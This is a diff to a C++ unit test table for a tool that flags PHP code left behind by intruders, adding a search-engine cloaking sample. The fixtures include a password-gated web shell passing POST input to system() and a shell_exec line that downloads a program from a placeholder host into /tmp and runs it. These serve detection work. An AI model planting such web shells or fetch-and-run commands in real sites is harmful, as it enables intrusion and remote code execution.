@@ -81,6 +81,11 @@ TEST(Analysis, SeesWhatIntrudersLeave) {
        "<?php function authenticate() { return $_POST['p'] == 'x'; } if (authenticate()) "
        "system($_POST['c']);",
        "php-request-to-command", Level::suspicious},
+      {"shows search engines something else",
+       "<?php $a = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($a, 'google')) { $c = curl_init(); "
+       "echo "
+       "curl_exec($c); }",
+       "php-cloaked-content", Level::suspicious},
       {"fetches a program", "<?php shell_exec('cd /tmp; wget http://x.invalid/a; chmod 777 a; ./a');",
        "php-fetch-and-run", Level::suspicious},
       {"a name put together in a loop",
